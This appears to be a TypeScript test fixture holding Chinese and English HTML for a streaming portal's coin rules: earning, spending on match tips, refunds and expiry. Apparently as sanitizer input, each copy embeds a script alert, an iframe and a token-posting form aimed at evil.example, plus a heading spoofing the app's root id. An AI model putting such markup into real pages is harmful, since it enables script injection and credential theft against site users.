/**
 * The rules of the coins as an editor of the portal would have pasted them: with what a page must not take over. No inline
 * handlers: a strict policy reports those while they are being cleaned away.
 */
export const GOLD_DOCUMENT = `<h2>如何获得</h2>
<ul><li>每日登录与观看直播完成任务。</li>
<li>直播间红包与抽奖。</li>
<li>在<a href="/gold-mall?from=document">金币商城</a>兑换，受每日上限限制。</li>
</ul>
<h2 class="si-app" id="root">如何使用</h2>
<ul><li>购买专家爆料，价格以下单页为准。</li>
<li>在金币商城兑换实物或虚拟权益。</li>
</ul><script>alert(1)</script><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"></form>
<h2>不中返还</h2>
<p>标有“不中全退”或“不中退 N%”的爆料，结算为黑单后按比例返还金币（向下取整）；比赛取消时全额返还。通常在比赛结束后 2 小时内到账。</p>
<h2>有效期</h2>
<p>金币自到账起 12 个月内有效，过期自动清零，清零前 7 天提醒。</p>`;

/** The same in English. */
export const GOLD_DOCUMENT_EN = `<h2>How to get them</h2>
<ul><li>Log in each day and watch live rooms.</li>
<li>Red envelopes and draws in rooms.</li>
<li>Exchange in the <a href="/gold-mall?from=document">coin mall</a>, within the daily limit.</li>
</ul>
<h2 class="si-app" id="root">How to use them</h2>
<ul><li>Unlock experts’ tips; the price is the one on the order.</li>
<li>Exchange them for goods and benefits in the coin mall.</li>
</ul><script>alert(1)</script><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"></form>
<h2>Refunds</h2>
<p>Tips marked “Full refund if lost” or “N% back if lost” pay that share back when they lose (rounded down); a cancelled match gives all back. Usually within 2 hours of the end.</p>
<h2>How long they last</h2>
<p>Coins last 12 months; what is left then is cleared, and you are told 7 days before.</p>`;
